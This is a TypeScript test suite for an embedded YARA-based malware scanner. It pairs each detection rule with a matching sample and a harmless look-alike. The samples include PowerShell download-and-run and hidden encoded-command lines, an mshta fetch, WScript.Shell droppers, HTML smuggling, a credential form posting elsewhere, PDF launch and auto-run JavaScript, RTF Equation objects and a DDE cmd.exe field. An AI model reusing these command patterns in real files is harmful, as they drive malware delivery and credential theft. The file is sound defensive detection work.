import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createEmbeddedEngine, type EmbeddedEngine } from '../../scanners';
import { SEVERITIES } from '../../domain/words';
import { eicar, report } from './samples';

type Sample = [name: string, data: Buffer | string];

const RULES = join(__dirname, '../../scanners/embedded/rules');
/** Split, so that no scanner takes this file for what it tests. */
const join2 = (...parts: string[]): string => parts.join('');

const pe = Buffer.alloc(512);
pe.write('MZ');
pe.writeUInt32LE(128, 0x3c);
pe.write('PE\0\0', 128);
const elf = Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(200)]);
const link = (command: string): Buffer =>
  Buffer.concat([
    Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
    Buffer.alloc(60),
    Buffer.from(command, 'utf16le'),
  ]);
const pdfWith = (body: string): string => `%PDF-1.4\n1 0 obj\n${body}\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`;
const ole = (...texts: string[]): Buffer =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(504),
    ...texts.map((text) => Buffer.from(text, 'utf16le')),
  ]);
const oneNote = (...parts: Buffer[]): Buffer =>
  Buffer.concat([Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'), Buffer.alloc(64), ...parts]);
const oneNoteFile = Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex');
const relations = (type: string, targetUrl: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${targetUrl}" TargetMode="External"/></Relationships>`;
const smuggle = (click: string): string =>
  `<html><body><script>var b=atob('${'QUJD'.repeat(40)}');var x=new Blob([b]);var a=document.createElement('a');a.href=URL.createObjectURL(x);a.download='bill.iso';${click}</script></body></html>`;

/** One that must match and one that looks like it and must not, for every rule. */
const CASES: Record<string, { match: Sample; miss: Sample }> = {
  EICAR_Test_File: { match: ['a.txt', eicar()], miss: ['a.txt', eicar().subarray(0, 60)] },
  Name_Executable_Behind_Document_Name: { match: ['bill.pdf', pe], miss: ['setup.exe', pe] },
  Name_Unix_Program_Behind_Document_Name: { match: ['bill.pdf', elf], miss: ['tool.bin', elf] },
  Name_Double_Extension: { match: ['bill.pdf.exe', 'x'], miss: ['release.1.2.exe.txt', 'x'] },
  Name_Reversed_Direction: { match: ['bill\u202efdp.exe', 'x'], miss: ['\u2067שלום\u2069.pdf', 'x'] },
  Name_Blanks_Before_Extension: { match: [`bill${' '.repeat(20)}.scr`, 'x'], miss: [`a  b${' '.repeat(20)}.pdf`, 'x'] },
  Script_PowerShell_Download_And_Run: {
    match: ['a.ps1', join2('i', 'ex (New-Object Net.WebClient).Download', "String('http://x.example/a')")],
    miss: ['a.ps1', 'Invoke-WebRequest https://example.com/report.csv -OutFile report.csv'],
  },
  Script_PowerShell_Encoded_Command: {
    match: ['a.bat', join2('power', 'shell -w hidden -e', `nc ${'QQBB'.repeat(30)}`)],
    miss: ['a.bat', 'powershell -File backup.ps1 -Encoding utf8'],
  },
  Script_WindowsHost_Dropper: {
    match: ['a.js', join2("x=new ActiveXObject('MSXML2.XML", "HTTP');new ActiveXObject('WScript.Sh", "ell').Run('a')")],
    miss: ['a.vbs', 'Set s = CreateObject("WScript.Shell")\nMsgBox s.ExpandEnvironmentStrings("%USERNAME%")'],
  },
  Script_Run_By_System_Tool: {
    match: ['a.bat', join2('msh', 'ta http://x.example/a')],
    miss: ['a.txt', 'We saw mshta https://x.example in the log, what is it?'],
  },
  Script_Encoded_VBScript_Or_JScript: { match: ['a.vbe', '#@~^abcdef==^#~@'], miss: ['a.txt', 'a divider: #@~^ only'] },
  Hta_With_Shell: {
    match: ['a.hta', join2('<script>new ActiveXObject("WScript.', 'Shell")</script>')],
    miss: ['a.hta', '<hta:application><script>document.title="x"</script>'],
  },
  Html_Smuggling: { match: ['a.html', smuggle('a.click()')], miss: ['a.html', smuggle('document.body.append(a)')] },
  Svg_With_Script_Redirect: {
    match: [
      'a.svg',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>window.location.href="https://x.example"</script></svg>',
    ],
    miss: ['a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><a href="https://example.com"><text>x</text></a></svg>'],
  },
  Html_Password_Form_Posts_Elsewhere: {
    match: ['a.html', '<form action="https://x.example/p"><input type="password"></form>'],
    miss: ['a.html', '<form action="https://example.com/search"><input type="text"></form>'],
  },
  Shortcut_Starts_Command: {
    match: ['a.lnk', link('C:\\Windows\\System32\\cmd.exe /c start')],
    miss: ['a.lnk', link('C:\\Users\\a\\Documents\\report.docx')],
  },
  Internet_Shortcut_To_Program: {
    match: ['a.url', '[InternetShortcut]\r\nURL=file://198.51.100.7/share/a.exe\r\n'],
    miss: ['a.url', '[InternetShortcut]\r\nURL=https://example.com/\r\n'],
  },
  Pdf_Script_With_Embedded_File: {
    match: ['a.pdf', pdfWith('<< /EmbeddedFile /JS (this.exportDataObject({ cName: "a", nLaunch: 2 });) >>')],
    miss: ['a.pdf', pdfWith('<< /Type /Filespec /F (invoice.xml) /EF << >> /EmbeddedFile >>')],
  },
  Pdf_Launch_Action: {
    match: ['a.pdf', pdfWith('<< /S /Launch /Win << /F (cmd.exe) >> >>')],
    miss: ['a.pdf', pdfWith('<< /S /URI /URI (https://example.com/launch) >>')],
  },
  Pdf_Script_On_Open: {
    match: ['a.pdf', pdfWith('<< /OpenAction << /S /JavaScript /JS (eval(unescape("%61"))) >> >>')],
    miss: ['a.pdf', pdfWith('<< /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>')],
  },
  Rtf_Equation_Exploit: {
    match: ['a.rtf', '{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105}}}'],
    miss: ['a.rtf', '{\\rtf1 Our Equation.3 is solved.}'],
  },
  Rtf_Object_Updates_Itself: {
    match: ['a.rtf', '{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}}'],
    miss: ['a.rtf', '{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}'],
  },
  Rtf_Embedded_Program: {
    match: ['a.rtf', '{\\rtf1{\\object{\\*\\objdata 5061636b61676500 61 2e65786500}}}'],
    miss: ['a.rtf', '{\\rtf1{\\object{\\*\\objdata 5061636b61676500 61 2e70646600}}}'],
  },
  Office_Macro_Runs_On_Open: {
    match: ['vbaProject.bin', ole('_VBA_PROJECT', 'Document_Open')],
    miss: ['a.doc', ole('WordDocument', 'Document_Open')],
  },
  Office_Remote_Template: {
    match: ['settings.xml.rels', relations('attachedTemplate', 'http://x.example/t.dotm')],
    miss: ['document.xml.rels', relations('hyperlink', 'http://example.com/t.dotm')],
  },
  Office_Dde_Command: {
    match: ['document.xml', `<w:instrText>DDEAUTO "c:\\\\windows\\\\${join2('cm', 'd')}.exe" "/k x"</w:instrText>`],
    miss: ['document.xml', '<w:instrText>DATE \\@ "d MMMM yyyy"</w:instrText>'],
  },
  OneNote_Embedded_Program: {
    match: ['a.one', oneNote(oneNoteFile, Buffer.from('open.hta\0', 'utf16le'))],
    miss: ['a.one', oneNote(oneNoteFile, Buffer.from('photo.png\0', 'utf16le'))],
  },
};

const sources = readdirSync(RULES).map((name) => readFileSync(join(RULES, name), 'utf8'));
const rules = sources.flatMap((text) => [...text.matchAll(/^rule (\w+)\s*\{([\s\S]*?)^\}/gm)]);

test.each(['auto', 'wasm'] as const)('every rule matches its sample and not its look-alike (%s)', async (yara) => {
  const engine: EmbeddedEngine = await createEmbeddedEngine({ processes: 1, yara });
  try {
    expect((await engine.health()).engineVersion).toContain(yara === 'wasm' ? 'wasm' : 'yara-x');
    const wrong: string[] = [];
    for (const [rule, { match, miss }] of Object.entries(CASES)) {
      const [hit, other] = [await names(engine, match), await names(engine, miss)];
      if (!hit.includes(rule)) wrong.push(`${rule} misses its sample`);
      if (other.includes(rule)) wrong.push(`${rule} matches the look-alike`);
    }
    expect(wrong).toEqual([]);
  } finally {
    await engine.close();
  }
});

async function names(engine: EmbeddedEngine, [name, data]: Sample): Promise<string[]> {
  return (await report(engine, name, Buffer.from(data))).findings.map((finding) => finding.rule);
}

test('every rule has a case here', () => {
  expect(rules.map(([, name]) => name).sort()).toEqual(Object.keys(CASES).sort());
});

test.each(rules.map(([, name, body]) => [name, body] as const))('%s explains itself', (_name, body) => {
  const meta = (key: string): string | undefined => new RegExp(`^\\s*${key} = "(.+)"$`, 'm').exec(body ?? '')?.[1];
  expect(meta('description')).toMatch(/^[A-Z].*\.$/);
  expect(meta('author')).toBe('Lazaret');
  expect(meta('reference')).toMatch(/^https:\/\//);
  expect(SEVERITIES).toContain(meta('severity'));
});

test('the rules hold no test file in plain, and no includes', () => {
  for (const text of sources) {
    expect(text.includes(eicar().toString())).toBe(false);
    expect(text).not.toMatch(/^\s*include/m);
  }
});
